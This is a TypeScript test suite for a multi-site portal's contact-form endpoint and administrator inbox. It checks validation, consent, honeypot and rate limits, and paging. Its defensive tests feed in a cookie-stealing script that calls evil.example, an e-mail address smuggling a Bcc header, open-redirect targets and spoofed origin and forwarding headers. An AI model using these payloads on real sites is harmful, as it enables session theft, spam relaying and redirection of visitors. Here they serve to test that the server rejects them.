// Past 300 lines: one enquiry, from the form in both its shapes to the inbox.
import {
  elapsedField,
  enquiryRecord,
  enquirySummary,
  enquiryTooQuick,
  honeypotField,
  limits,
  privacyVersion,
  ventures,
  type VentureId,
} from '@portal/contract';
import { describe, expect, it } from 'vitest';
import { cms, freshAddress, json, urlencoded, visitor, type Reply } from './connection.ts';
import { currentRevision, expectFailure } from './records.ts';
import { administrator } from './session.ts';

const enquiry = {
  name: 'Kavitha S',
  email: 'kavitha@example.com',
  phone: '+91 98400 00000',
  enquiry: 'Arun Eats',
  message: 'Do you cater for a wedding\nof 200 guests?',
};

const post = (fields: Readonly<Record<string, unknown>>, from = freshAddress()): Promise<Reply> =>
  visitor('POST', '/contact/send', { body: json(fields), from });

const postForm = (fields: Readonly<Record<string, string>>, from = freshAddress()): Promise<Reply> =>
  visitor('POST', '/contact/send', {
    body: urlencoded(fields),
    from,
    headers: { origin: cms.siteOrigin, accept: 'text/html,application/xhtml+xml' },
  });

/** The newest enquiries. */
const inbox = async (query = '') =>
  enquiryRecord.array().parse((await administrator('GET', `/enquiries${query}`)).json);

const summary = async () => enquirySummary.parse((await administrator('GET', '/enquiries/summary')).json);

/** How many there are. */
const total = async (): Promise<number> => (await summary()).total;

/** Sends an enquiry and answers the stored one. */
async function stored(fields: Readonly<Record<string, unknown>>) {
  const reply = await post(fields);
  expect(reply.status, reply.text).toBe(200);
  expect(reply.json).toEqual({ status: true });
  const [newest] = await inbox();
  if (newest === undefined) throw new Error('The inbox is empty.');
  return newest;
}

/** The tags of the forms, and the site that each belongs to; two of them are written in the specification. */
const tags: readonly (readonly [tag: string, venture: VentureId])[] = [
  ['ArunGrit', 'grit'],
  ['Arun Eats', 'eats'],
  [ventures.institute.enquiryTag, 'institute'],
  [ventures.infra.enquiryTag, 'infra'],
  [ventures.agri.enquiryTag, 'agri'],
  [ventures.agri.enquiryTagAfterReset, 'agri'],
  [ventures.group.enquiryTag, 'group'],
];

describe('an enquiry', () => {
  it('that comes again with its key is stored once, and costs no second try', async () => {
    const before = await total();
    const from = freshAddress();
    const sendAs = (key: string) =>
      visitor('POST', '/contact/send', { body: json(enquiry), from, headers: { 'idempotency-key': key } });
    for (let count = 0; count <= limits.enquiries; count += 1) {
      const reply = await sendAs('one enquiry');
      expect(reply.status, reply.text).toBe(200);
      expect(reply.json).toEqual({ status: true });
    }
    expect(await total()).toBe(before + 1);
    expect((await sendAs('another enquiry')).status).toBe(200);
    expect(await total()).toBe(before + 2);
    for (const reply of await Promise.all(['at once', 'at once', 'at once'].map(sendAs))) {
      expect(reply.status, reply.text).toBe(200);
    }
    expect(await total()).toBe(before + 3);
  });

  it.each(tags)('with the tag %s is stored before the reply and belongs to %s', async (tag, venture) => {
    const revision = await currentRevision();
    const record = await stored({ ...enquiry, enquiry: tag });
    expect(record).toMatchObject({ ...enquiry, enquiry: tag, venture, read: false });
    expect(record).toMatchObject({ mail: 'none', mailFailure: '' });
    expect(Math.abs(Date.now() - Date.parse(record.createdAt))).toBeLessThan(60_000);
    expect(await currentRevision()).toBe(revision);
  });

  it('resets the agri tag to one that differs slightly', () => {
    const { enquiryTag, enquiryTagAfterReset } = ventures.agri;
    expect(enquiryTagAfterReset).not.toBe(enquiryTag);
    expect(enquiryTagAfterReset.replaceAll(' ', '')).toBe(enquiryTag.replaceAll(' ', ''));
  });

  it('with an unknown tag, or none, is not lost', async () => {
    for (const tag of ['Something else', '', undefined, null]) {
      const record = await stored({ ...enquiry, enquiry: tag });
      expect(record.venture).toBe('group');
      expect(record.enquiry).toBe(tag ?? '');
    }
  });

  it.each(['name', 'email', 'message'])('needs its %s', async (field) => {
    const before = await total();
    for (const value of [undefined, '', '   ', null]) {
      const told = expectFailure(await post({ ...enquiry, [field]: value }), 400);
      expect(told.fields).toHaveProperty(field);
    }
    expect(await total()).toBe(before);
  });

  it.each(tags)(
    'with the tag %s needs a phone number only for two of the sites (%s)',
    async (tag, venture) => {
      const reply = await post({ ...enquiry, enquiry: tag, phone: ' ' });
      if (venture === 'institute' || venture === 'grit') {
        expect(expectFailure(reply, 400).fields).toHaveProperty('phone');
      } else {
        expect(reply.status, reply.text).toBe(200);
      }
    },
  );

  it('needs an e-mail address that looks like one', async () => {
    for (const email of [
      'nobody',
      'a@b',
      'a@example.com\r\nBcc: everyone@example.com',
      'a@example.com, b@example.com',
    ]) {
      const told = expectFailure(
        await post({ ...enquiry, email }),
        400,
        'Please enter a valid email address.',
      );
      expect(told.fields).toHaveProperty('email');
    }
  });

  it.each([
    ['name', 255],
    ['phone', 255],
    ['enquiry', 255],
    ['message', 10_000],
  ] as const)('takes a %s of %d characters and not more', async (field, length) => {
    expect((await stored({ ...enquiry, [field]: 'அ'.repeat(length) }))[field]).toHaveLength(length);
    expect(
      expectFailure(await post({ ...enquiry, [field]: 'x'.repeat(length + 1) }), 400).fields,
    ).toHaveProperty(field);
  });

  it('keeps script as text and trims', async () => {
    const script = '<script>fetch("//evil.example/?"+document.cookie)</script>';
    expect(await stored({ ...enquiry, name: ` ${script} `, message: script })).toMatchObject({
      name: script,
      message: script,
    });
  });

  it('cannot choose what the inbox says of it', async () => {
    const record = await stored({
      ...enquiry,
      id: 1,
      read: true,
      venture: 'infra',
      createdAt: '2001-01-01T00:00:00Z',
    });
    expect(record).toMatchObject({ read: false, venture: 'eats' });
    expect(record.createdAt).not.toMatch(/^2001/);
  });

  it('keeps which privacy notice was agreed to, and when', async () => {
    const record = await stored({ ...enquiry, consent: privacyVersion, consentAt: '2001-01-01T00:00:00Z' });
    expect(record.consent).toBe(privacyVersion);
    expect(Math.abs(Date.now() - Date.parse(record.consentAt ?? ''))).toBeLessThan(60_000);
  });

  it.each([undefined, null, '', 'yes', true, '1999-01-01'])(
    'with the consent %j is taken, and no consent is stored',
    async (consent) => {
      expect(await stored({ ...enquiry, consent })).toMatchObject({ consent: '', consentAt: null });
    },
  );

  it('of a robot that fills the hidden field is thanked and forgotten', async () => {
    const before = await total();
    const reply = await post({ ...enquiry, [honeypotField]: 'https://casino.example' });
    expect(reply.status).toBe(200);
    expect(reply.json).toEqual({ status: true });
    expect(await total()).toBe(before);
  });

  it('that its form sends sooner than a person could is not taken; one without script is never asked', async () => {
    const before = await total();
    for (const elapsed of [0, limits.enquiryMinimumMs - 1, -1]) {
      const told = expectFailure(await post({ ...enquiry, [elapsedField]: elapsed }), 400, enquiryTooQuick);
      expect(told.fields).toHaveProperty(elapsedField);
    }
    expect(await total()).toBe(before);
    await stored({ ...enquiry, [elapsedField]: limits.enquiryMinimumMs });
    expect((await postForm({ ...enquiry, [elapsedField]: '' })).status).toBe(303);
  });

  it('is one of five that an address may send for a while', async () => {
    const from = freshAddress();
    for (let sent = 0; sent < limits.enquiries; sent += 1) {
      expect((await post(enquiry, from)).status).toBe(200);
    }
    const before = await total();
    const reply = await post(enquiry, from);
    const told = expectFailure(reply, 429);
    expect(told.error).toMatch(/^Too many tries\. Please wait \d+ (seconds|minutes) and try again\.$/);
    const wait = Number(reply.headers['retry-after']);
    expect(wait).toBeGreaterThan(0);
    expect(wait).toBeLessThanOrEqual(limits.enquiryWindowMs / 1000);
    expect(await total()).toBe(before);
    expect((await post(enquiry)).status).toBe(200);
  });

  it('is counted by the connection, not by a header that anyone can write', async () => {
    const from = freshAddress();
    const statuses: number[] = [];
    for (let sent = 0; sent <= limits.enquiries; sent += 1) {
      const reply = await visitor('POST', '/contact/send', {
        body: json(enquiry),
        from,
        headers: { 'x-forwarded-for': `203.0.113.${sent}` },
      });
      statuses.push(reply.status);
    }
    expect(statuses.at(-1)).toBe(429);
  });
});

describe('an ordinary form post', () => {
  it.each(tags)('with the tag %s leads to the thank-you page of %s', async (tag, venture) => {
    const before = await total();
    const reply = await postForm({ ...enquiry, enquiry: tag, consent: privacyVersion });
    expect(reply.status, reply.text).toBe(303);
    expect(reply.headers.location).toBe(`${cms.siteOrigin}${ventures[venture].contact}-thanks`);
    expect(await total()).toBe(before + 1);
    expect((await inbox())[0]).toMatchObject({ name: enquiry.name, venture, consent: privacyVersion });
  });

  it('that cannot be taken says why on a page, and runs nothing that it was sent', async () => {
    const reply = await postForm({ ...enquiry, message: '', name: '<script>alert(1)</script>' });
    expect(reply.status).toBe(400);
    expect(reply.headers['content-type']).toMatch(/^text\/html/);
    expect(reply.text).toContain('Please write a message.');
    expect(reply.text).not.toContain('<script>alert');
    expect(reply.text).toContain(ventures.eats.contact);
  });

  it('sends no one anywhere else', async () => {
    const reply = await postForm({ ...enquiry, redirect: '//evil.example', next: 'http://evil.example' });
    expect(reply.status).toBe(303);
    expect(reply.headers.location?.startsWith(`${cms.siteOrigin}/`)).toBe(true);
  });

  it('waits like the others', async () => {
    const from = freshAddress();
    for (let sent = 0; sent < limits.enquiries; sent += 1) await postForm(enquiry, from);
    const reply = await postForm(enquiry, from);
    expect(reply.status).toBe(429);
    expect(reply.headers['content-type']).toMatch(/^text\/html/);
    expect(Number(reply.headers['retry-after'])).toBeGreaterThan(0);
    expect(reply.text).toMatch(/Too many tries/);
  });

  it('of another site is refused', async () => {
    const reply = await visitor('POST', '/contact/send', {
      body: urlencoded(enquiry),
      from: freshAddress(),
      headers: { origin: 'http://evil.example' },
    });
    expect(reply.status).toBe(403);
  });
});

describe('the inbox', () => {
  it('has the newest first', async () => {
    const first = await stored({ ...enquiry, name: 'First' });
    const second = await stored({ ...enquiry, name: 'Second' });
    expect((await inbox()).slice(0, 2).map(({ id }) => id)).toEqual([second.id, first.id]);
  });

  it('is told in numbers, which change with it', async () => {
    const record = await stored(enquiry);
    const all = await inbox(`?limit=${limits.enquiryPageMost}`);
    expect(await total(), 'more than one page: please page here').toBe(all.length);
    const changes = all.map(({ updatedAt }) => updatedAt).toSorted();
    const first = await summary();
    expect(first).toEqual({
      total: all.length,
      unread: all.filter(({ read }) => !read).length,
      waiting: all.filter(({ mail }) => mail === 'waiting').length,
      failed: all.filter(({ mail }) => mail === 'failed').length,
      changedAt: changes.at(-1),
    });
    await administrator('PUT', `/enquiries/${record.id}`, { body: json({ read: true }) });
    const marked = await summary();
    expect(marked).toEqual({ ...first, unread: first.unread - 1, changedAt: marked.changedAt });
    expect(Date.parse(marked.changedAt ?? '')).toBeGreaterThan(Date.parse(first.changedAt ?? ''));
    await administrator('DELETE', `/enquiries/${record.id}`);
    expect(await summary()).toMatchObject({ total: all.length - 1, unread: marked.unread });
  });

  it('comes in pages, and no enquiry is left out or comes twice', async () => {
    while ((await total()) <= limits.enquiryPage) await stored(enquiry);
    const page = await inbox();
    expect(page).toHaveLength(limits.enquiryPage);
    const found = page.map(({ id }) => id);
    for (let next = page; next.length > 0;) {
      next = await inbox(`?limit=17&before=${found.at(-1)}`);
      found.push(...next.map(({ id }) => id));
    }
    expect(found).toEqual(found.toSorted((one, other) => other - one));
    expect(new Set(found).size).toBe(found.length);
    expect(found).toHaveLength(await total());
  });

  it.each(['limit=0', 'limit=201', 'limit=ten', 'limit=1.5', 'before=0', 'before=x', 'limit=1&limit=2'])(
    'says what is wrong with ?%s',
    async (query) => {
      const told = expectFailure(await administrator('GET', `/enquiries?${query}`), 400);
      expect(told.fields).toHaveProperty(query.slice(0, query.indexOf('=')));
    },
  );

  it('deletes several enquiries, of which some may have gone already', async () => {
    const [kept, first, second] = [await stored(enquiry), await stored(enquiry), await stored(enquiry)];
    const before = await total();
    await administrator('DELETE', `/enquiries/${first.id}`);
    const ids = [first.id, second.id];
    const reply = await administrator('POST', '/enquiries/delete', { body: json({ ids }) });
    expect(reply.status, reply.text).toBe(200);
    expect(reply.json).toEqual({ status: true });
    expect(await total()).toBe(before - 2);
    expect((await inbox())[0]?.id).toBe(kept.id);
    const tooMany = Array.from({ length: limits.enquiryPageMost + 1 }, (_, index) => index + 1);
    for (const wrong of [undefined, [], tooMany, ['1'], [0], [1.5], 'all', null]) {
      const body = json({ ids: wrong });
      const told = expectFailure(await administrator('POST', '/enquiries/delete', { body }), 400);
      expect(told.error, JSON.stringify(wrong)).toBe('Please choose from 1 to 200 enquiries.');
    }
    expect(await total()).toBe(before - 2);
  });

  it('answers one enquiry', async () => {
    const { id } = await stored(enquiry);
    const reply = await administrator('GET', `/enquiries/${id}`);
    expect(reply.status).toBe(200);
    expect(enquiryRecord.parse(reply.json)).toEqual((await inbox())[0]);
  });

  it('marks an enquiry as read and unread, and changes nothing else of it', async () => {
    const record = await stored(enquiry);
    const revision = await currentRevision();
    for (const read of [true, false]) {
      const body = json({ read, name: 'Somebody else', message: 'Something else' });
      const reply = await administrator('PUT', `/enquiries/${record.id}`, { body });
      expect(reply.status, reply.text).toBe(200);
      expect(reply.json).toMatchObject({
        id: record.id,
        status: true,
        read,
        name: record.name,
        message: record.message,
      });
    }
    for (const value of [undefined, 'yes', 1, null]) {
      const body = json({ read: value });
      expectFailure(await administrator('PUT', `/enquiries/${record.id}`, { body }), 400);
    }
    expect(await currentRevision()).toBe(revision);
  });

  it('deletes an enquiry', async () => {
    const { id } = await stored(enquiry);
    const revision = await currentRevision();
    const reply = await administrator('DELETE', `/enquiries/${id}`);
    expect(reply.status).toBe(200);
    expect(reply.json).toEqual({ status: true, id });
    expectFailure(await administrator('GET', `/enquiries/${id}`), 404);
    expect(await currentRevision()).toBe(revision);
  });

  it('is not part of the content', async () => {
    await stored(enquiry);
    const reply = await visitor('GET', '/content');
    expect(reply.text).not.toContain(enquiry.email);
    expect(reply.text).not.toContain('enquiries');
  });
});
